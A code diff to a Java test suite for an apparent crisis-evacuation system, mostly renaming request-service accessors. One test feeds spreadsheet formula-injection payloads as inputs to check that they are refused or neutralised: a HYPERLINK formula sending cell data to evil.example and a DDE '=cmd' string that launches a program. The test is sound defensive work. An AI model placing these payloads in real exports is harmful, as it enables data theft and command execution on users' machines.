@@ -46,7 +46,7 @@ class GateSettlementTest {
     EvacuationRequest q = f.request(f.family(lat, lon), Set.of(SpecialNeed.ELDERLY));
     for (Traveller t : q.travellers()) {
       if (!t.mayBoard()) {
-        q = f.rep.requests().issueLaissezPasser(PARIS_OFFICER, f.crisis.id(), q.id(), q.version(), t.id(),
+        q = f.rep.requestChanges().issueLaissezPasser(PARIS_OFFICER, f.crisis.id(), q.id(), q.version(), t.id(),
             "LP-" + t.id().toString().substring(0, 6));
       }
     }
@@ -151,7 +151,7 @@ class GateSettlementTest {
     EvacuationRequest current = f.read(q);
     for (Traveller t : current.travellers()) {
       if (!t.mayBoard()) {
-        current = f.rep.requests().issueLaissezPasser(PARIS_OFFICER, f.crisis.id(), q.id(), current.version(),
+        current = f.rep.requestChanges().issueLaissezPasser(PARIS_OFFICER, f.crisis.id(), q.id(), current.version(),
             t.id(), "LP-2026-" + t.fullName().length());
       }
     }
@@ -160,7 +160,7 @@ class GateSettlementTest {
     assertThat(boarded.travellers()).hasSize(3);
     assertThat(f.read(q).state()).isEqualTo(State.BOARDED);
     EvacuationRequest aboard = f.read(q);
-    assertThatThrownBy(() -> f.rep.requests().issueLaissezPasser(PARIS_OFFICER, f.crisis.id(), q.id(),
+    assertThatThrownBy(() -> f.rep.requestChanges().issueLaissezPasser(PARIS_OFFICER, f.crisis.id(), q.id(),
         aboard.version(), mother.id(), "LP-9")).isInstanceOf(ConflictException.class);
   }
 
@@ -199,7 +199,7 @@ class GateSettlementTest {
     f.rep.remains().open(PARIS_OFFICER, new RemainsCases.CaseInput(deceased.id(), f.crisis.id(), null, null,
         LocalDate.of(2026, 11, 30), "Paris", "FR", null, "Ahmed El Amrani", "+212522123456", "brother", "Fès"));
 
-    EvacuationRequests.Ordered order = f.rep.requests().orderEvacuation(CRISIS_CELL, f.crisis.id());
+    EvacuationOrder.Ordered order = f.rep.evacuationOrder().orderEvacuation(CRISIS_CELL, f.crisis.id());
     assertThat(order.opened()).isEqualTo(1);
     assertThat(order.alreadyRequested()).isEqualTo(2);
     List<EvacuationRequest> all = f.rep.requests().list(CRISIS_CELL, f.crisis.id(), null);
@@ -211,7 +211,7 @@ class GateSettlementTest {
   @Test
   void aCancelledRequestReadsWithTheTravellersItHad() {
     EvacuationRequest q = f.request(f.family(48.87, 2.35), Set.of());
-    EvacuationRequest cancelled = f.rep.requests().cancel(PARIS_OFFICER, f.crisis.id(), q.id(), "duplicate");
+    EvacuationRequest cancelled = f.rep.requestChanges().cancel(PARIS_OFFICER, f.crisis.id(), q.id(), "duplicate");
     assertThat(cancelled.state()).isEqualTo(State.CANCELLED);
     assertThat(cancelled.travellers()).extracting(Traveller::id)
         .containsExactlyElementsOf(q.travellers().stream().map(Traveller::id).toList());
@@ -258,13 +258,13 @@ class GateSettlementTest {
   @Test
   void aManifestOpenedInASpreadsheetRunsNoFormula() {
     // A companion's name is a name: a formula is refused, naming the field.
-    assertThatThrownBy(() -> f.rep.requests().open(PARIS_OFFICER, f.crisis.id(), new EvacuationRequests
-        .RequestInput(f.alone(48.871, 2.351).id(), null, Set.of(), List.of(new EvacuationRequests.TravellerInput(null,
+    assertThatThrownBy(() -> f.rep.requestOpening().open(PARIS_OFFICER, f.crisis.id(), new RequestOpening
+        .RequestInput(f.alone(48.871, 2.351).id(), null, Set.of(), List.of(new TravellerInputs.TravellerInput(null,
             "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", null, null, "FR", null, null, null)), null)))
         .isInstanceOf(crisis.core.common.ValidationException.class).hasMessageContaining("companions[0].fullName");
     // Documents, carriers and references are what they are: written so that a spreadsheet reads them as text.
-    EvacuationRequest q = f.rep.requests().open(PARIS_OFFICER, f.crisis.id(), new EvacuationRequests.RequestInput(
-        f.alone(48.87, 2.35).id(), null, Set.of(), List.of(new EvacuationRequests.TravellerInput(null, "Jean Dupont",
+    EvacuationRequest q = f.rep.requestOpening().open(PARIS_OFFICER, f.crisis.id(), new RequestOpening.RequestInput(
+        f.alone(48.87, 2.35).id(), null, Set.of(), List.of(new TravellerInputs.TravellerInput(null, "Jean Dupont",
             null, null, "FR", Traveller.DocumentType.PASSPORT, "@SUM(1+1)", null)), null));
     TransportLeg leg = f.rep.legs().create(CRISIS_CELL, f.crisis.id(), new TransportLegs.LegInput(
         TransportLeg.Kind.BUS, "=cmd|' /C calc'!A0", "+AT 9001", 10, 0, 0, f.clock.instant().plus(Duration.ofHours(6)),
@@ -278,8 +278,8 @@ class GateSettlementTest {
 
   @Test
   void thePdfManifestDrawsNamesWrittenInArabic() throws Exception {
-    f.rep.requests().open(PARIS_OFFICER, f.crisis.id(), new EvacuationRequests.RequestInput(
-        f.alone(48.87, 2.35).id(), null, Set.of(), List.of(new EvacuationRequests.TravellerInput(null,
+    f.rep.requestOpening().open(PARIS_OFFICER, f.crisis.id(), new RequestOpening.RequestInput(
+        f.alone(48.87, 2.35).id(), null, Set.of(), List.of(new TravellerInputs.TravellerInput(null,
             "يوسف العمراني", null, null, "MA", null, null, null)), null));
     TransportLeg leg = f.bus(10, 6, f.eastGate);
     f.rep.planning().plan(CRISIS_CELL, f.crisis.id());
